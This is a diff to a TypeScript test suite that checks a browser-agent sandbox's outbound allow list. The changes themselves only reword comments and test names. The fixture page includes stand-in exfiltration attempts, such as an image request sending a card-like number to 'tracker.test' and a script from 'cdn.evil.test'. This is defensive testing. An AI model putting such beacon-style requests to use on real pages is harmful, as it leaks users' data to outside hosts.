@@ -6,7 +6,7 @@ import { WebSocketServer } from 'ws';
 import { codeRows } from '../../helpers/sandboxes.ts';
 import { turn, useOperatorLab } from './operators.ts';
 
-/** A page that uses everything by which a page can send a request, and reports the results that it can see. */
+/** A page that uses every browser feature that can send a request, and reports the results that it can see. */
 const ATTEMPTS = `<!doctype html><title>attempts</title>
 <img src="http://tracker.test/pixel.png?d=4929123456789012">
 <script src="https://cdn.evil.test/x.js"></script>
@@ -51,7 +51,7 @@ interface FenceSite {
   readonly close: () => void;
 }
 
-/** Starts a site with a page that tries everything, and a WebSocket that greets. */
+/** Starts a site with a page that tries everything, and with a WebSocket that sends a greeting. */
 const startFenceSite = async (): Promise<FenceSite> => {
   const reports: Record<string, unknown>[] = [];
   const server: Server = createServer((request, response) => {
@@ -89,7 +89,7 @@ const startRun = async (allow: string, url: string): Promise<Response> =>
   lab.service.request('POST', '/v1/operators/run', { task: 'Look.', allow: [allow], url });
 
 describe('A page that tries to call out', { timeout: 180_000 }, () => {
-  it('the page reaches only allowed hosts by any browser feature, and each attempt is a row', async () => {
+  it('the page reaches only allowed hosts, whichever browser feature it uses, and each attempt is a row', async () => {
     const run = await lab.run({ url: 'http://fence.test/', max_steps: 10 }, [
       turn({ action: 'wait', ms: 5_000 }),
       turn({ action: 'wait', ms: 3_000 }),
@@ -98,9 +98,9 @@ describe('A page that tries to call out', { timeout: 180_000 }, () => {
     expect(run).toMatchObject({ status: 'done', success: true });
     const [report] = site.reports;
     expect(report).toMatchObject({ own: 'welcome', plain: 'failed', secure: 'failed' });
-    // Over plain HTTP the page takes the refusal itself for an answer.
+    // Over plain HTTP the page mistakes the refusal for the site's response.
     expect(report).toMatchObject({ fetched: 'failed', dns: 'failed' });
-    // Candidates have only anonymous names: no address of this machine, and no answer of a server outside.
+    // Candidates have only anonymous names: they show neither an address of this machine nor an outside server's response.
     const peers = report?.['peers'] as readonly string[];
     expect(peers.filter((candidate) => !/ [\da-f-]+\.local .* typ host/.test(candidate))).toEqual([]);
 
@@ -160,7 +160,7 @@ describe('A page that tries to call out', { timeout: 180_000 }, () => {
     expect(await response.json()).toMatchObject({ errors: [{ pointer: '/allow/1' }] });
   });
 
-  it('the API accepts an allow list in any case and script that means the same host, and no other host', async () => {
+  it('the API accepts an allow list in any case or script that means the same host, but no other host', async () => {
     const HINDI = 'उदाहरण.भारत';
     const PUNYCODE = 'xn--p1b6ci4b4b3a.xn--h2brj9c';
     for (const [allow, url] of [
